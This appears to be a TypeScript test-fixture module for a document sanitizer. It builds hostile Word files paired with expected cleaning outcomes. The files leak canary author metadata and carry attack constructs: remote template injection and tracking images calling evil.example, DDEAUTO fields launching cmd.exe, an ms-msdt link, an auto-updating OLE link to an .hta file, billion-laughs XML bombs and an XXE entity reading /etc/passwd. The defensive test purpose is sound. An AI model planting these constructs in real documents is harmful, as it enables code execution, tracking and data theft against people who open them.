import { strToU8 } from 'fflate'
import { CANARY, CANARY_ZH, type HostileFile, SHARE } from './hostile-file.ts'
import {
  docx,
  field,
  namespaces,
  office,
  type Part,
  type Parts,
  paragraph,
  type Related,
  run,
  wordMain,
  wordPart,
} from './office-file.ts'

const seen = paragraph(run('seen'))
const WORD = 'http://schemas.microsoft.com/office/2006/relationships'

export const picture = (descr: string, blip: string): string =>
  paragraph(
    `<w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="${descr}" descr="${descr}" title="${descr}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="${descr}" descr="${descr}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip ${blip}/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
  )

/** A picture of one white point. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII=',
  'base64',
)

const settings = (inner: string, related: readonly Related[] = []): Parts => ({
  'word/settings.xml': wordPart('settings', `<w:settings ${namespaces}>${inner}</w:settings>`, related),
})
const withSettings: Related = ['settings', 'settings.xml']

const raw = (rels: string): Part => ({ content: rels })

/** Word: what programs leave of whoever wrote. */
export const wordNames: readonly HostileFile[] = [
  {
    what: 'a picture is named and described, with a path',
    is: 'cleaned',
    make: () =>
      docx(seen + picture(`C:\\Users\\${CANARY}\\${CANARY_ZH}.png`, 'r:embed="r1"'), [['image', 'media/image1.png']], {
        'word/media/image1.png': { content: PIXEL },
      }),
  },
  {
    what: 'a field prints where the file lay, and its result is the path',
    is: 'cleaned',
    make: () => docx(seen + paragraph(field([' FILENAME \\p '], `C:\\Users\\${CANARY}\\a.docx`))),
  },
  {
    what: 'simple fields print the author and the company',
    is: 'cleaned',
    make: () =>
      docx(
        seen +
          paragraph(
            `<w:fldSimple w:instr=" AUTHOR ">${run(CANARY)}</w:fldSimple><w:fldSimple w:instr=" DOCPROPERTY Company ">${run(CANARY_ZH)}</w:fldSimple>`,
          ),
      ),
  },
  {
    what: 'a label of the company says who set it (MIP)',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [],
        {
          'docMetadata/LabelInfo.xml': {
            type: 'application/vnd.ms-office.classificationlabels+xml',
            content: `<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"><clbl:label id="{1}" siteId="${CANARY}"/></clbl:labelList>`,
          },
          'docProps/custom.xml': {
            type: 'application/vnd.openxmlformats-officedocument.custom-properties+xml',
            content: `<Properties><property name="MSIP_Label_1_Owner">${CANARY}</property></Properties>`,
          },
        },
        [
          [`${WORD}/classificationlabels`, 'docMetadata/LabelInfo.xml'],
          ['custom-properties', 'docProps/custom.xml'],
        ],
      ),
  },
  {
    what: 'settings tie it to other documents: docId, sessions, variables, a path',
    is: 'cleaned',
    drops: ['1A2B3C4D', '00AB12CD'],
    make: () =>
      docx(
        `<w:p w:rsidR="00AB12CD" w14:paraId="1A2B3C4D">${run('seen')}</w:p>`,
        [withSettings],
        settings(
          `<w:rsids><w:rsid w:val="00AB12CD"/></w:rsids><w14:docId w14:val="1A2B3C4D"/><w:docVars><w:docVar w:name="${CANARY}" w:val="${CANARY}"/></w:docVars><w:saveThroughXslt w:solutionID="${CANARY}"/>`,
        ),
      ),
  },
  {
    what: 'tracked changes name their authors and keep what was struck out',
    is: 'cleaned',
    keeps: ' put in',
    make: () =>
      docx(
        paragraph(
          `${run('seen')}<w:ins w:id="1" w:author="${CANARY}" w:date="2017-09-25T08:00:00Z">${run(' put in')}</w:ins><w:del w:id="2" w:author="${CANARY}"><w:r><w:delText>${CANARY_ZH}</w:delText></w:r></w:del><w:moveFrom w:id="3" w:author="${CANARY}">${run(CANARY_ZH)}</w:moveFrom>`,
        ),
      ),
  },
  {
    what: 'a row of a table was struck out, its words untouched',
    is: 'cleaned',
    make: () =>
      docx(
        `${seen}<w:tbl><w:tr><w:trPr><w:del w:id="1" w:author="${CANARY}"/></w:trPr><w:tc><w:p>${run(CANARY_ZH)}</w:p></w:tc></w:tr></w:tbl>${seen}`,
      ),
  },
  {
    what: 'formatting was changed under a name',
    is: 'cleaned',
    make: () =>
      docx(
        `<w:p><w:pPr><w:pPrChange w:id="1" w:author="${CANARY}"><w:pPr/></w:pPrChange></w:pPr><w:r><w:rPr><w:b/><w:rPrChange w:id="2" w:author="${CANARY}"><w:rPr/></w:rPrChange></w:rPr><w:t>seen</w:t></w:r></w:p>`,
      ),
  },
  {
    what: 'the properties lie under another name',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [],
        {
          'xyz/thing.xml': {
            type: 'application/vnd.openxmlformats-package.core-properties+xml',
            content: `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${CANARY}</dc:creator></cp:coreProperties>`,
          },
        },
        [['http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties', 'xyz/thing.xml']],
      ),
  },
  {
    what: 'the document itself lies under another name',
    is: 'cleaned',
    make: () => office({ 'a/b.xml': wordMain(seen) }),
  },
  {
    what: 'remarks and the people who made them',
    is: 'cleaned',
    make: () =>
      docx(
        `<w:p><w:commentRangeStart w:id="0"/>${run('seen')}<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>`,
        [
          ['comments', 'comments.xml'],
          ['http://schemas.microsoft.com/office/2011/relationships/people', 'people.xml'],
        ],
        {
          'word/comments.xml': wordPart(
            'comments',
            `<w:comments ${namespaces}><w:comment w:id="0" w:author="${CANARY}" w:initials="LJC"><w:p>${run(CANARY_ZH)}</w:p></w:comment></w:comments>`,
          ),
          'word/people.xml': {
            type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml',
            content: `<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="${CANARY}"/></w15:people>`,
          },
        },
      ),
  },
  {
    what: 'a control shows the author of the file',
    is: 'cleaned',
    make: () =>
      docx(
        `${seen}<w:sdt><w:sdtPr><w:alias w:val="${CANARY}"/><w:tag w:val="${CANARY}"/><w:dataBinding w:xpath="/ns1:coreProperties[1]/ns0:creator[1]" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/></w:sdtPr><w:sdtContent><w:p>${run(CANARY)}</w:p></w:sdtContent></w:sdt>`,
      ),
  },
  {
    what: 'a style, a bookmark and a font bear a name',
    is: 'cleaned',
    make: () =>
      docx(
        `<w:p><w:pPr><w:pStyle w:val="${CANARY}"/></w:pPr><w:bookmarkStart w:id="1" w:name="${CANARY}"/><w:r><w:rPr><w:rFonts w:ascii="${CANARY} Hand" w:eastAsia="${CANARY_ZH}体"/></w:rPr><w:t>seen</w:t></w:r><w:bookmarkEnd w:id="1"/><w:hyperlink w:anchor="${CANARY}" w:tooltip="${CANARY}">${run('here')}</w:hyperlink></w:p>`,
        [
          ['styles', 'styles.xml'],
          ['fontTable', 'fontTable.xml'],
        ],
        {
          'word/styles.xml': wordPart(
            'styles',
            `<w:styles ${namespaces}><w:latentStyles><w:lsdException w:name="${CANARY}"/></w:latentStyles><w:style w:type="paragraph" w:customStyle="1" w:styleId="${CANARY}"><w:name w:val="${CANARY}"/><w:aliases w:val="${CANARY}"/></w:style></w:styles>`,
          ),
          'word/fontTable.xml': wordPart(
            'fontTable',
            `<w:fonts ${namespaces}><w:font w:name="${CANARY} Hand"><w:altName w:val="${CANARY}"/></w:font></w:fonts>`,
          ),
        },
      ),
  },
  {
    what: 'hidden words',
    is: 'cleaned',
    make: () => docx(`${seen}<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>${CANARY}</w:t></w:r></w:p>`),
  },
  {
    what: 'data of a program lies beside the text (custom XML)',
    is: 'cleaned',
    make: () =>
      docx(seen, [['customXml', '../customXml/item1.xml']], {
        'customXml/item1.xml': {
          content: `<a xmlns="urn:x">${CANARY}</a>`,
          related: [['customXmlProps', 'itemProps1.xml']],
        },
        'customXml/itemProps1.xml': {
          type: 'application/vnd.openxmlformats-officedocument.customXmlProperties+xml',
          content: `<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="${CANARY}"/>`,
        },
      }),
  },
  {
    what: 'a preview, the settings of a printer, an embedded font',
    is: 'cleaned',
    make: () =>
      docx(
        `${seen}<w:sectPr><w:printerSettings r:id="r1"/></w:sectPr>`,
        [
          ['printerSettings', 'printerSettings1.bin'],
          ['fontTable', 'fontTable.xml'],
        ],
        {
          'word/printerSettings1.bin': { content: Buffer.from(CANARY, 'utf16le') },
          'docProps/thumbnail.png': { content: Buffer.concat([PIXEL, Buffer.from(CANARY)]) },
          'word/fontTable.xml': wordPart(
            'fontTable',
            `<w:fonts ${namespaces}><w:font w:name="Arial"><w:embedRegular r:id="r1" w:fontKey="{1}"/></w:font></w:fonts>`,
            [['font', 'fonts/font1.odttf']],
          ),
          'word/fonts/font1.odttf': { content: strToU8(CANARY) },
        },
        [['http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail', 'docProps/thumbnail.png']],
      ),
  },
  {
    what: 'who may change a passage',
    is: 'cleaned',
    make: () =>
      docx(paragraph(`<w:permStart w:id="1" w:ed="${CANARY}@example.com"/>${run('seen')}<w:permEnd w:id="1"/>`)),
  },
  {
    what: 'words in UTF-16, its comments and instructions to programs with a name',
    is: 'cleaned',
    make: () =>
      office({
        'word/document.xml': {
          ...wordMain(''),
          content: Buffer.from(
            `\ufeff<?xml version="1.0" encoding="UTF-16"?><?mso ${CANARY}?><!-- ${CANARY_ZH} --><w:document ${namespaces}><w:body>${seen}</w:body></w:document>`,
            'utf16le',
          ),
        },
      }),
  },
  {
    what: 'names of its parts and attributes nobody knows tell a name',
    is: 'cleaned',
    make: () =>
      docx(
        `<w:p xmlns:z="urn:z" z:who="${CANARY}" w:who="${CANARY}">${run('seen')}<z:mark z:by="${CANARY}"/></w:p>${picture('x', 'r:embed="r1"')}`,
        [['image', `media/${CANARY}.png`]],
        { [`word/media/${CANARY}.png`]: { content: PIXEL } },
      ),
  },
]

/** Word: what bites whoever opens it. */
export const wordBites: readonly HostileFile[] = [
  {
    what: 'a template is fetched from a share',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [withSettings],
        settings('<w:attachedTemplate r:id="r1"/>', [['attachedTemplate', `file:///${SHARE}\\t.dotm`, 'outside']]),
      ),
  },
  {
    what: 'a template is fetched by a relation under another prefix',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships"><x:Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="http://evil.example/t.dotm"/></x:Relationships>',
        ),
      }),
  },
  {
    what: 'a template is fetched by a relation written in entities',
    is: 'damaged',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<!DOCTYPE x [<!ENTITY t "http://evil.example/t.dotm">]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" Target="&t;"/></Relationships>',
        ),
      }),
  },
  {
    what: 'the same in numbers of characters',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings], {
        ...settings('<w:attachedTemplate r:id="r1"/>'),
        'word/_rels/settings.xml.rels': raw(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplat&#101;" TargetMode="Ext&#101;rnal" Target="&#104;ttp://evil.example/t.dotm"/></Relationships>',
        ),
      }),
  },
  {
    what: 'a field runs a program (DDEAUTO), in pieces',
    is: 'cleaned',
    drops: ['DDEAUTO', 'cmd.exe'],
    make: () =>
      docx(seen + paragraph(field([' DDE', 'AU', 'TO c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k calc"'], 'x'))),
  },
  {
    what: 'a simple field runs a program, another one in a field of a harmless kind',
    is: 'cleaned',
    drops: ['DDE', 'cmd.exe'],
    make: () =>
      docx(
        seen +
          paragraph(
            `<w:fldSimple w:instr="DDE cmd.exe calc">${run('x')}</w:fldSimple><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r>${field(['DDEAUTO cmd.exe calc'], 'y')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
          ),
      ),
  },
  {
    what: 'a picture and a text are fetched by fields',
    is: 'cleaned',
    drops: ['INCLUDE', 'evil.example'],
    make: () =>
      docx(
        seen +
          paragraph(
            field(['INCLUDEPICTURE "http://evil.example/p.png" \\d'], '') +
              field([`INCLUDETEXT "${SHARE}\\a.txt"`], ''),
          ),
      ),
  },
  {
    what: 'links lead to a file, a share, a script and a protocol of the system',
    is: 'cleaned',
    make: () =>
      docx(
        paragraph(
          [1, 2, 3, 4]
            .map((id) => `<w:hyperlink r:id="r${id}">${run(id === 1 ? 'seen' : 'there')}</w:hyperlink>`)
            .join(''),
        ),
        [
          ['hyperlink', `file:///C:/Users/${CANARY}/a.exe`, 'outside'],
          ['hyperlink', SHARE, 'outside'],
          ['hyperlink', 'javascript:alert(1)', 'outside'],
          ['hyperlink', 'ms-msdt:/id PCWDiagnostic', 'outside'],
        ],
      ),
  },
  {
    what: 'fields link to a share and a file',
    is: 'cleaned',
    drops: ['HYPERLINK'],
    make: () =>
      docx(
        seen +
          paragraph(field([`HYPERLINK "${SHARE}\\a"`], 'x') + field(['HYPER', 'LINK ', '"file:', '///C:/a.exe"'], 'y')),
      ),
  },
  {
    what: 'a picture is fetched when the document opens',
    is: 'cleaned',
    make: () => docx(seen + picture('x', 'r:link="r1"'), [['image', 'http://evil.example/track.png', 'outside']]),
  },
  {
    what: 'a shape of old fetches its picture and carries another drawing',
    is: 'cleaned',
    drops: ['gfxdata', 'evil.example'],
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:pict><v:shape id="_x0000_i1" style="width:1pt;background:url(http://evil.example/a)" href="http://evil.example" o:gfxdata="UEsDBBQ"><v:imagedata r:id="r1" r:href="r1" o:title="${CANARY}"/></v:shape></w:pict></w:r></w:p>`,
        [['image', 'http://evil.example/a.png', 'outside']],
      ),
  },
  {
    what: 'a shape runs a program when it is clicked',
    is: 'cleaned',
    drops: ['ppaction', 'evil'],
    make: () =>
      docx(
        seen +
          paragraph(
            '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x"><a:hlinkClick r:id="r1" action="ppaction://program"/></wp:docPr></wp:inline></w:drawing></w:r>',
          ),
        [['hyperlink', 'file:///C:/evil.exe', 'outside']],
      ),
  },
  {
    what: 'what old readers take holds a field that runs a program',
    is: 'cleaned',
    drops: ['DDEAUTO'],
    make: () =>
      docx(
        `<w:p><mc:AlternateContent xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><mc:Choice Requires="wps">${run('seen')}</mc:Choice><mc:Fallback>${field(['DDEAUTO cmd calc'], 'x')}</mc:Fallback></mc:AlternateContent></w:p>`,
      ),
  },
  {
    what: 'what new readers take is not understood, what old ones take runs a program',
    is: 'cleaned',
    drops: ['DDEAUTO'],
    make: () =>
      docx(
        `<w:p><mc:AlternateContent xmlns:zz="urn:zz"><mc:Choice Requires="zz"><zz:a/></mc:Choice><mc:Fallback>${run('seen')}${field(['DDEAUTO cmd calc'], 'x')}</mc:Fallback></mc:AlternateContent></w:p>`,
      ),
  },
  {
    what: 'frames are fetched by the settings for the web, letters by the source of addresses',
    is: 'cleaned',
    make: () =>
      docx(seen, [withSettings, ['webSettings', 'webSettings.xml']], {
        ...settings(`<w:mailMerge><w:dataSource r:id="r1"/><w:connectString w:val="${CANARY}"/></w:mailMerge>`, [
          ['mailMergeSource', `file:///${SHARE}\\a.mdb`, 'outside'],
        ]),
        'word/webSettings.xml': wordPart(
          'webSettings',
          `<w:webSettings ${namespaces}><w:frameset><w:frame><w:sourceFileName r:id="r1"/></w:frame></w:frameset></w:webSettings>`,
          [['frame', 'http://evil.example/', 'outside']],
        ),
      }),
  },
  {
    what: 'a web page is taken in as text (altChunk)',
    is: 'more-inside',
    make: () =>
      docx(`${seen}<w:altChunk r:id="r1"/>`, [['aFChunk', 'a.html']], {
        'word/a.html': { type: 'text/html', content: '<script>alert(1)</script>' },
      }),
  },
  {
    what: 'another document is taken in',
    is: 'more-inside',
    make: () => docx(`${seen}<w:subDoc r:id="r1"/>`, [['subDocument', `file:///${SHARE}/a.docx`, 'outside']]),
  },
  {
    what: 'an object of another program lies in it',
    is: 'more-inside',
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r1"/></w:object></w:r></w:p>`,
        [['oleObject', 'embeddings/oleObject1.bin']],
        { 'word/embeddings/oleObject1.bin': { content: Buffer.from('d0cf11e0a1b11ae1', 'hex') } },
      ),
  },
  {
    what: 'an object is fetched and updated by itself',
    is: 'more-inside',
    make: () =>
      docx(
        `${seen}<w:p><w:r><w:object><o:OLEObject Type="Link" UpdateMode="Always" r:id="r1"/></w:object></w:r></w:p>`,
        [['oleObject', 'http://evil.example/a.hta!', 'outside']],
      ),
  },
  {
    what: 'an ActiveX control',
    is: 'macros',
    make: () =>
      docx(`${seen}<w:p><w:r><w:control r:id="r1" w:name="x"/></w:r></w:p>`, [['control', 'activeX/activeX1.xml']], {
        'word/activeX/activeX1.xml': { type: 'application/vnd.ms-office.activeX+xml', content: '<a/>' },
      }),
  },
  {
    what: 'macros under another name and another ending',
    is: 'macros',
    make: () =>
      docx(seen, [[`${WORD}/vbaProject`, 'theme1.xml']], {
        'word/theme1.xml': { type: 'application/vnd.ms-office.vbaProject', content: 'x' },
      }),
  },
  {
    what: 'a document with macros by its type',
    is: 'macros',
    make: () =>
      office({
        'word/document.xml': { ...wordMain(seen), type: 'application/vnd.ms-word.document.macroEnabled.main+xml' },
      }),
  },
  {
    what: 'buttons that call a program at start (customUI)',
    is: 'cleaned',
    make: () =>
      docx(
        seen,
        [],
        {
          'customUI/customUI.xml': {
            content: '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="evil"/>',
          },
        },
        [[`${WORD}/ui/extensibility`, 'customUI/customUI.xml']],
      ),
    drops: ['onLoad'],
  },
  {
    what: 'an element nobody knows holds the text',
    is: 'not-understood',
    make: () => docx(`${seen}<w:p><z:run xmlns:z="urn:z">more</z:run></w:p>`),
  },
  {
    what: 'an element nobody knows refers to a part',
    is: 'not-understood',
    make: () =>
      docx(`${seen}<w:p><w:surprise r:id="r1"/></w:p>`, [['surprise', 'a.xml']], { 'word/a.xml': { content: '<a/>' } }),
  },
  {
    what: 'it is written in the strict form, which we do not read',
    is: 'not-understood',
    make: () =>
      office({
        'word/document.xml': {
          ...wordMain(seen),
          content: `<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>${seen}</w:body></w:document>`,
        },
      }),
  },
  {
    what: 'a signature, which no copy keeps',
    is: 'more-inside',
    make: () =>
      docx(
        seen,
        [],
        {
          '_xmlsignatures/origin.sigs': {
            type: 'application/vnd.openxmlformats-package.digital-signature-origin',
            content: '',
          },
        },
        [
          [
            'http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin',
            '_xmlsignatures/origin.sigs',
          ],
        ],
      ),
  },
]

const entities = (declared: string, body: string): Buffer =>
  office({
    'word/document.xml': {
      ...wordMain(''),
      content: `<!DOCTYPE w:document [${declared}]><w:document ${namespaces}><w:body><w:p><w:r><w:t>${body}</w:t></w:r></w:p></w:body></w:document>`,
    },
  })

/** XML that grows, nests or is not what it says. */
export const xmlBombs: readonly HostileFile[] = [
  {
    what: 'entities of entities (a billion laughs)',
    is: 'damaged',
    make: () =>
      entities(
        Array.from({ length: 10 }, (_, at) => `<!ENTITY l${at} "${at === 0 ? 'ha' : `&l${at - 1};`.repeat(10)}">`).join(
          '',
        ),
        '&l9;',
      ),
  },
  {
    what: 'one long entity many times over',
    is: 'damaged',
    make: () => entities(`<!ENTITY a "${'a'.repeat(50_000)}">`, '&a;'.repeat(50_000)),
  },
  {
    what: 'an entity that reads a file of the server',
    is: 'damaged',
    make: () => entities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'),
  },
  {
    what: 'a hundred thousand elements in one another',
    is: 'too-large-inside',
    make: () => docx(`${'<w:p>'.repeat(100_000)}${'</w:p>'.repeat(100_000)}`),
  },
  {
    what: 'a hundred thousand attributes on one element',
    is: 'damaged',
    make: () => docx(`<w:p ${Array.from({ length: 100_000 }, (_, at) => `a${at}="1"`).join(' ')}/>`),
  },
  {
    what: 'a hundred thousand namespaces on one element',
    is: 'damaged',
    make: () => docx(`<w:p ${Array.from({ length: 100_000 }, (_, at) => `xmlns:a${at}="u${at}"`).join(' ')}/>`),
  },
  {
    what: 'the same attribute twice',
    is: 'damaged',
    make: () => docx('<w:p a="1" a="2"/>'),
  },
  { what: 'elements that do not close', is: 'damaged', make: () => docx('<w:p><w:r></w:p></w:r>') },
  {
    what: 'another encoding than its bytes have',
    is: 'damaged',
    make: () =>
      office({
        'word/document.xml': {
          ...wordMain(''),
          content: `<?xml version="1.0" encoding="UTF-7"?><w:document ${namespaces}><w:body>${seen}</w:body></w:document>`,
        },
      }),
  },
  {
    what: 'a million fields in one another',
    is: 'cleaned',
    make: () => docx(seen + paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'.repeat(20_000))),
  },
]
